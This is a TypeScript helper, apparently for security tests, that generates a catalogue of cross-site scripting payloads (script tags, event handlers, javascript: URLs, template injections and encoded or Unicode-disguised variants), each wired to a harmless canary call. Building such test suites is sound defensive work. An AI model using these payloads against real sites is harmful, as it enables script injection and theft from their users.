/** More than two hundred texts that try to run as a script in a page. Each that succeeds calls `canary` with its number. */
export function scriptPayloads(): string[] {
  const patterns = [
    ...breakers.flatMap((breaker) => elements.map((element) => breaker + element)),
    ...attributes,
    ...addresses,
    ...templates,
    ...disguises,
  ];
  return patterns.map((pattern, number) => pattern.replaceAll("CODE", `canary(${number})`));
}

// Ends of the places in which a text may have been put.
const breakers = ["", '">', "'>", "`>", "-->", "]]>", "</title>", "</script>", "</style>", "</textarea>"];

const elements = [
  "<script>CODE</script>",
  "<img src=x onerror=CODE>",
  "<svg onload=CODE>",
  "<svg><script>CODE</script></svg>",
  "<svg><animate onbegin=CODE attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:CODE"><text y=9>x</text></a></svg>',
  '<math href="javascript:CODE">x</math>',
  "<math><mtext><table><mglyph><style><img src=x onerror=CODE>",
  '<iframe srcdoc="<script>parent.CODE</script>"></iframe>',
  '<iframe src="javascript:parent.CODE"></iframe>',
  '<a href="javascript:CODE">x</a>',
  "<details open ontoggle=CODE>x</details>",
  "<input autofocus onfocus=CODE>",
  "<video><source onerror=CODE></video>",
  '<object data="javascript:CODE"></object>',
  '<form action="javascript:CODE"><button>x</button></form>',
  '<noscript><p title="</noscript><img src=x onerror=CODE>">',
];

const attributes = [
  '" onfocus=CODE autofocus tabindex=0 x="',
  "' onmouseover=CODE x='",
  "` onclick=CODE x=`",
  '" style="background:url(https://elsewhere.example/CODE)" x="',
  '"/onpointerenter="CODE',
  'x" formaction="javascript:CODE',
];

const addresses = [
  "javascript:CODE",
  "JaVaScRiPt:CODE",
  "java%09script:CODE",
  " javascript:CODE",
  "javascript&colon;CODE",
  "javascript://%0aCODE",
  "data:text/html,<script>parent.CODE</script>",
  "//elsewhere.example/CODE",
  "https://elsewhere.example/CODE.png",
  "../../../elsewhere?CODE#CODE",
];

const templates = [
  "{{constructor.constructor('CODE')()}}",
  "$" + "{CODE}",
  "#{CODE}",
  "<%= CODE %>",
  '{"type":"img","props":{"src":"x","onError":"CODE"},"constructor":null}',
  '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=CODE>"}}',
  "__proto__",
  "constructor",
  "';CODE;'",
  '\\";CODE;//',
  "*/CODE/*",
];

const disguises = [
  "＜script＞CODE＜/script＞",
  "\\u003cscript\\u003eCODE\\u003c/script\\u003e",
  "&lt;script&gt;CODE&lt;/script&gt;",
  "&#60;img src=x onerror=CODE&#62;",
  "%3Cscript%3ECODE%3C/script%3E",
  "+ADw-script+AD4-CODE+ADw-/script+AD4-",
  "<scr\u200bipt>CODE</scr\u200bipt>",
  "\u202e>tpircs/<CODE>tpircs<",
  "\u2028CODE//\u2029",
  "<ſcript>CODE</ſcript>",
  "<\u00adscript>CODE</script>",
  "<svg/onload=CODE>",
  "ja\u00advascript:CODE",
];
